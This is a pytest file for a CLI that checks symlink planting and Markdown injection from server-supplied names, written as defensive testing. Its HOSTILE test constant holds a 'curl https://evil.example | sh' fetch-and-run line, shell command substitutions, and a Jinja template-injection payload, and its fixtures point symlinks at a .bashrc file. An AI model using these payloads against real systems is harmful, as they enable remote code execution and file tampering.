"""Links planted in a folder the CLI writes into (a collection, its reports, a new project, a
build context) are never written through, and names from a server or a run file cannot add
lines to the Markdown the CLI writes."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from openenv_cli.errors import OpenEnvError
from openenv_cli.main import app
from openenv_runtime import create_app
from openenv_runtime.testing import running_server
from openenv_runtime.wire import EnvironmentMetadata
from tests.fixtures.echo import EchoAction, EchoEnvironment, EchoObservation
from tests.support.optional import require

pytestmark = pytest.mark.integration  # a real server on a real socket for collect

# A name that would close the heading, open a shell block and run a command in it, and
# (rendered as a template, as the card once was) run Python on the collecting machine.
HOSTILE = (
    "Echo\n\n```sh\ncurl https://evil.example | sh\n```\n`whoami` | $(id) <b>x</b> "
    "{{ cycler.__init__.__globals__.os.getpid() }}"
)
PRECIOUS = "precious\n"


class HostileEcho(EchoEnvironment):
    """Echo whose /metadata names it with a line break and a fenced shell block."""

    def get_metadata(self) -> EnvironmentMetadata:
        return EnvironmentMetadata(name=HOSTILE, description="hostile", version="1.0.0")


@pytest.fixture(scope="module")
def url() -> Iterator[str]:
    with running_server(create_app(HostileEcho, EchoAction, EchoObservation)) as base:
        yield base


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    path = tmp_path / "home" / ".bashrc"
    path.parent.mkdir()
    path.write_text(PRECIOUS)
    return path


def openenv(*args: str) -> Any:
    if args[0] in ("collect", "eval"):  # their extra's packages (the `ci` extra has them)
        for module in ("pyarrow", "jsf", "scipy"):
            require(module)
    return CliRunner().invoke(app, [*args], catch_exceptions=False)


def collect(url: str, out: Path, *more: str) -> Any:
    return openenv(
        "collect", url, "--policy", "random", "-n", "2", "--max-turns", "1", "-o", str(out), *more
    )


def shell_lines(markdown: str) -> list[str]:
    """Lines that start a fenced block or carry the planted command."""
    return [
        line for line in markdown.splitlines() if line.startswith("```") or "curl" in line.strip()
    ]


def test_collect_resume_does_not_write_through_a_planted_card_temp_link(
    url: str, tmp_path: Path, victim: Path
) -> None:
    out = tmp_path / "run"
    assert collect(url, out).exit_code == 0
    (out / "README.md.tmp").symlink_to(victim)
    result = collect(url, out, "--resume")
    assert result.exit_code == 0, result.output
    assert victim.read_text() == PRECIOUS
    assert (out / "README.md.tmp").is_symlink()
    assert not (out / "README.md").is_symlink() and "Episodes of" in (out / "README.md").read_text()


def test_collect_resume_refuses_a_linked_card(url: str, tmp_path: Path, victim: Path) -> None:
    out = tmp_path / "run"
    assert collect(url, out).exit_code == 0
    (out / "README.md").unlink()
    (out / "README.md").symlink_to(victim)
    with pytest.raises(OpenEnvError, match=r"README\.md is a symbolic link") as refused:
        collect(url, out, "--resume")
    assert refused.value.hint and refused.value.hint.startswith("Remove")
    assert victim.read_text() == PRECIOUS


def test_collect_resume_refuses_a_linked_run_record(url: str, tmp_path: Path) -> None:
    out = tmp_path / "run"
    assert collect(url, out).exit_code == 0
    elsewhere = tmp_path / "elsewhere.json"
    (out / "run.json").rename(elsewhere)
    (out / "run.json").symlink_to(elsewhere)
    before = elsewhere.read_bytes()
    with pytest.raises(OpenEnvError, match=r"run\.json is a symbolic link"):
        collect(url, out, "--resume")
    assert elsewhere.read_bytes() == before


def test_collect_resume_refuses_a_linked_shard_folder(url: str, tmp_path: Path) -> None:
    out = tmp_path / "run"
    assert collect(url, out, "--format", "jsonl").exit_code == 0
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.tmp").write_text(PRECIOUS)
    for shard in (out / "data").iterdir():
        shard.unlink()
    (out / "data").rmdir()
    (out / "data").symlink_to(outside, target_is_directory=True)
    with pytest.raises(OpenEnvError, match="data is a symbolic link"):
        collect(url, out, "--format", "jsonl", "--resume")
    assert [p.name for p in outside.iterdir()] == ["keep.tmp"]  # nothing written or removed
    assert (outside / "keep.tmp").read_text() == PRECIOUS


def test_eval_from_refuses_a_linked_report(url: str, tmp_path: Path, victim: Path) -> None:
    out = tmp_path / "run"
    assert collect(url, out).exit_code == 0
    (out / "report.md").symlink_to(victim)
    with pytest.raises(OpenEnvError, match=r"report\.md is a symbolic link"):
        openenv("eval", "--from", str(out))
    assert victim.read_text() == PRECIOUS


def test_a_linked_shard_is_neither_read_nor_pushed(url: str, tmp_path: Path) -> None:
    out = tmp_path / "run"
    assert collect(url, out, "--format", "jsonl").exit_code == 0
    elsewhere = tmp_path / "elsewhere.jsonl"
    elsewhere.write_text((out / "data" / "shard-00000.jsonl").read_text())
    (out / "data" / "shard-00001.jsonl").symlink_to(elsewhere)
    with pytest.raises(OpenEnvError, match=r"shard-00001\.jsonl is a symbolic link"):
        openenv("eval", "--from", str(out))
    with pytest.raises(OpenEnvError, match=r"shard-00001\.jsonl is a symbolic link"):
        collect(url, out, "--format", "jsonl", "--resume")


def test_a_server_name_adds_no_line_to_the_card(url: str, tmp_path: Path) -> None:
    out = tmp_path / "run"
    assert collect(url, out).exit_code == 0
    card = (out / "README.md").read_text()
    lines = card.splitlines()
    fences = [line for line in lines if line.startswith("```")]
    assert fences[:2] == ["```python", "```"] and len(fences) == 4
    # the provenance block's fence outgrows the name's backticks: the block holds it whole
    assert fences[2] == fences[3] + "json" and len(fences[3]) > 3
    block = lines[lines.index(fences[2]) + 1 : len(lines) - 1 - lines[::-1].index(fences[3])]
    assert json.loads("\n".join(block))["environment"]["name"] == HOSTILE
    assert not any(line.startswith("curl") for line in lines)
    heading = next(line for line in lines if line.startswith("# Episodes of "))
    assert "curl" in heading and "\\`\\`\\`sh" in heading and "\\<b\\>" in heading
    front = card.split("---\n")[1]
    assert "Echo" not in front  # the front matter holds no name from the server


def test_a_run_record_name_adds_no_line_to_the_report(url: str, tmp_path: Path) -> None:
    out = tmp_path / "run"
    assert collect(url, out).exit_code == 0
    run = json.loads((out / "run.json").read_text())
    run["provenance"]["environment"]["name"] = "x\r\n| a | b |\n# not a heading"
    (out / "run.json").write_text(json.dumps(run))
    result = openenv("eval", "--from", str(out), "--report", "md")
    assert result.exit_code == 0, result.output
    report = (out / "report.md").read_text()
    assert shell_lines(report) == []
    lines = report.splitlines()
    assert lines[0].startswith("# Evaluation of x ") and "\\| a \\| b \\|" in lines[0]
    assert "# not a heading" not in lines[1:]
    assert "\r" not in report


def test_init_force_does_not_write_through_a_linked_subfolder(tmp_path: Path) -> None:
    dest = tmp_path / "my_env"
    dest.mkdir()
    (dest / "notes.txt").write_text("mine\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (dest / "server").symlink_to(outside, target_is_directory=True)
    with pytest.raises(OpenEnvError, match=r"Symbolic links .*my_env/server"):
        openenv("init", "my_env", "--output-dir", str(tmp_path), "--force")
    assert list(outside.iterdir()) == []


def test_a_link_planted_in_a_build_context_while_staging_is_not_written_through(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from openenv_cli.image import context
    from openenv_cli.scaffold import render_project, write_project

    project = tmp_path / "proj"
    write_project(render_project("my_env"), project)
    dest = tmp_path / "ctx"
    outside = tmp_path / "outside"
    outside.mkdir()
    real_select = context.select_files

    def select_then_plant(*args: Any, **kwargs: Any) -> Any:
        chosen = real_select(*args, **kwargs)  # after the check that dest is empty
        dest.mkdir(exist_ok=True)
        (dest / "server").symlink_to(outside, target_is_directory=True)
        return chosen

    monkeypatch.setattr(context, "select_files", select_then_plant)
    with pytest.raises(OpenEnvError, match="server is a symbolic link"):
        context.stage_context(project, dest)
    assert list(outside.iterdir()) == []


def test_validate_update_lock_does_not_write_through_a_planted_temp_link(
    tmp_path: Path, victim: Path
) -> None:
    from openenv_cli.validation.contract import LOCK_FILE, check_contract
    from openenv_cli.validation.results import Status

    (tmp_path / f"{LOCK_FILE}.tmp").symlink_to(victim)
    schemas: dict[str, Any] = {"action": {}, "observation": {}, "state": {}}
    assert check_contract(tmp_path, schemas, "x", "1", update=True).status is Status.PASS
    assert victim.read_text() == PRECIOUS
    (tmp_path / LOCK_FILE).unlink()
    (tmp_path / LOCK_FILE).symlink_to(victim)
    result = check_contract(tmp_path, schemas, "x", "1", update=True)
    assert result.status is Status.FAIL and "symbolic link" in result.message
    assert victim.read_text() == PRECIOUS


@pytest.mark.parametrize("planted", ["run.md", "run.json", "run.csv"])
def test_bench_reports_are_not_written_through_a_planted_link(
    tmp_path: Path, victim: Path, planted: str
) -> None:
    from openenv_cli.bench import report
    from tests.unit.test_bench_report import sessions_run

    out = tmp_path / "bench"
    out.mkdir()
    (out / planted).symlink_to(victim)
    with pytest.raises(OpenEnvError, match=planted.replace(".", r"\.") + " is a symbolic link"):
        report.write_reports(sessions_run(), out, "run", plots=False)
    assert victim.read_text() == PRECIOUS
